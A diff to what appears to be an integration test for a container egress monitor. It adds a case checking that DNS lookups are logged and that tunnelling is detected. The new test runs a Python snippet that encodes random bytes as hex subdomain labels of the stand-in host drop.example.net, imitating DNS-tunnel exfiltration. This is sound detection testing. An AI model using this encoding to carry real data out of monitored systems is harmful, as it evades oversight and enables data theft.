@@ -51,7 +51,10 @@ describeWith(['engine', 'debian-image', 'root'], 'After a fresh install', () => 
       containers.start({ args: sleep, network: 'none' }),
     ]);
     [serverAddress, otherAddress] = await Promise.all([addressOf(server), addressOf(other)]);
-    stopNames = await startNameServer(other, { 'shop.test': serverAddress });
+    stopNames = await startNameServer(other, {
+      'shop.test': serverAddress,
+      'drop.example.net': serverAddress,
+    });
     const servers = `echo nameserver ${otherAddress} >/etc/resolv.conf`;
     expect(await agent.exec(['sh', '-c', servers])).toBe(0);
     untouched = await ruleset(agent);
@@ -106,6 +109,33 @@ describeWith(['engine', 'debian-image', 'root'], 'After a fresh install', () => 
     expect((await sight(strong))?.state).toBe('partly');
     expect(watch.findings).toEqual([]);
     expect(watch.log.filter((line) => line.includes('egress'))).toEqual([]);
+  });
+
+  test('names are told as asked and answered, and a tunnel in them is found', async () => {
+    const python = (text: string): Promise<number> =>
+      agent.exec(['python3', '-c', `import socket,os,sys\n${text}`]);
+    const seen = (name: string) => {
+      const answer = watch.service().egressSeen({ target: agent.id, hours: 1 });
+      return answer.ok ? answer.value.names.find((each) => each.name === name) : undefined;
+    };
+    const tunnel = () => watch.findings.filter(({ kind }) => kind === 'dns-tunnel');
+    expect(await python('socket.gethostbyname("shop.test")')).toBe(0);
+    // It knows of no such name.
+    expect(await python('socket.gethostbyname("none.test")')).toBe(1);
+    await eventually('both are', () => {
+      const [good, none] = [seen('shop.test'), seen('none.test')];
+      return (good?.answered ?? 0) > 0 && (none?.asked ?? 0) > 0;
+    });
+    expect(seen('none.test')).toMatchObject({ answered: 0, refused: 0, held: 0 });
+    expect(tunnel()).toEqual([]);
+    expect(
+      await python(`for i in range(60):
+  part=os.urandom(90).hex()
+  name=".".join(part[at:at+60] for at in range(0,180,60))+".drop.example.net"
+  if socket.gethostbyname(name)!="${serverAddress}": sys.exit(4)`),
+    ).toBe(0);
+    await eventually('the tunnel is found', () => tunnel().length > 0);
+    expect(tunnel()[0]?.container).toBe(agent.id);
   });
 
   test('the choice to leave it untouched is kept, and so is a later one to observe', async () => {
